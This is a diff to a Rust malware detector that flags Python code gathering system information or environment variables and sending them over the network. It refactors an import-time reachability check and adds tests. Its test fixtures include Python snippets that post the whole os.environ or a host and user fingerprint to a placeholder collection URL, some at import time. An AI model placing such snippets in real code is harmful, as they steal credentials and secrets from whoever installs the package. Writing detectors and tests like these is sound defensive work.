@@ -16,7 +16,6 @@
 //! public IP: [`super::reputation`]) is High, the destination named in the evidence.
 //! Hand-built requests over a raw socket (`s.send(…)` in a file that opens one) are sends.
 
-use super::exec_install_hook::top_blocks;
 use super::net_ip_address::public_ip;
 use super::pysrc::{self, Source, MAX_HITS_PER_FILE};
 use super::reputation::{self, Class};
@@ -28,7 +27,7 @@ use std::sync::LazyLock;
 
 pub(crate) static META: DetectorMeta = DetectorMeta {
     id: "hunting.system-info",
-    revision: 2,
+    revision: 3,
     title: "Collects system information and sends it over the network.",
     category: Category::Hunting,
     severity: Severity::Medium,
@@ -41,40 +40,6 @@ static COLLECT: LazyLock<Regex> = LazyLock::new(|| {
 
 /// Weak collectors: common alone, part of a fingerprint next to stronger ones.
 static WEAK: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"(?-u:\b)os\.getcwd\s*\(").expect("weak"));
-static DEF_NAME: LazyLock<Regex> =
-    LazyLock::new(|| Regex::new(r"(?m)^(?:async\s+)?def\s+([A-Za-z_]\w*)").expect("def name"));
-
-/// Whether code at `off` runs when the module is imported: it is at module level,
-/// or inside a top-level function called at module level (outside a `__main__` guard).
-pub(crate) fn runs_on_import(src: &Source<'_>, blocks: &[(usize, usize)], off: usize) -> bool {
-    let t = src.text;
-    let in_block = |o: usize| blocks.iter().find(|b| b.0 <= o && o < b.1).copied();
-    let main_guarded = |o: usize| {
-        // The closest column-0 code line before `o` opens the block `o` is in.
-        let mut end = t[..o].rfind('\n').unwrap_or(0);
-        while end > 0 {
-            let start = t[..end].rfind('\n').map_or(0, |p| p + 1);
-            let line = &t[start..end];
-            if !line.starts_with([' ', '\t', '#']) && !line.trim().is_empty() && src.is_code(start) {
-                return line.starts_with("if __name__");
-            }
-            end = start.saturating_sub(1);
-        }
-        false
-    };
-    let Some(block) = in_block(off) else {
-        return !main_guarded(off);
-    };
-    let Some(name) = DEF_NAME.captures(&t[block.0..block.1]).and_then(|c| c.get(1)).map(|m| m.as_str()) else {
-        return false;
-    };
-    t.match_indices(name).any(|(i, _)| {
-        let before_ok =
-            t[..i].bytes().next_back().is_none_or(|b| !(b.is_ascii_alphanumeric() || b == b'_' || b == b'.'));
-        let after = t[i + name.len()..].trim_start_matches([' ', '\t']);
-        before_ok && after.starts_with('(') && src.is_code(i) && in_block(i).is_none() && !main_guarded(i)
-    })
-}
 
 /// A raw socket send (`s.send(b"POST / HTTP/1.1…")`): counted only in files that open a
 /// socket themselves.
@@ -173,7 +138,6 @@ impl Detector for SystemInfo {
             names.dedup();
             names.len() >= 2
         };
-        let blocks = std::cell::OnceCell::new();
         let shady = std::cell::OnceCell::new();
         let shady = || shady.get_or_init(|| shady_destination(src)).as_deref();
         let is_main = file.path.rsplit(['/', '!']).next() == Some("__main__.py");
@@ -206,8 +170,7 @@ impl Detector for SystemInfo {
                 (false, false) if shady().is_some() => Severity::High,
                 (false, false) => Severity::Medium,
                 (false, true) => {
-                    let blocks = blocks.get_or_init(|| top_blocks(src));
-                    if !is_main && runs_on_import(src, blocks, m.start()) {
+                    if !is_main && pysrc::runs_on_import_at(src, m.start()) {
                         Severity::Critical
                     } else {
                         Severity::High
@@ -256,6 +219,27 @@ mod tests {
                     Runtime,
                     "import os, urllib.request, json\ndef _init():\n    data = json.dumps(dict(os.environ)).encode()\n    urllib.request.urlopen('https://x.example.org/collect', data=data)\n_init()\n",
                     Some((3, "os.environ dump + urllib.request.urlopen", Critical)),
+                ),
+                (
+                    "env dump sent two calls deep from import-time code",
+                    "pkg/__init__.py",
+                    Runtime,
+                    "def _send():\n    requests.post(U, json=dict(os.environ))\ndef _init():\n    _send()\n_init()\n",
+                    Some((2, "os.environ dump + requests.post", Critical)),
+                ),
+                (
+                    "fingerprint sent from a thread started on import",
+                    "pkg/__init__.py",
+                    Runtime,
+                    "import threading\ndef _beat():\n    d = {'h': socket.gethostname(), 'u': getpass.getuser()}\n    requests.post(U, json=d)\nthreading.Thread(target=_beat).start()\n",
+                    Some((3, "socket.gethostname + requests.post", Critical)),
+                ),
+                (
+                    "env dump in a method of a class the module defines",
+                    "pkg/client.py",
+                    Runtime,
+                    "class Client:\n    def report(self):\n        requests.post(U, json=dict(os.environ))\nreport = 1\n",
+                    Some((3, "os.environ dump + requests.post", High)),
                 ),
                 (
                     "env dump sent from a function called only under __main__",
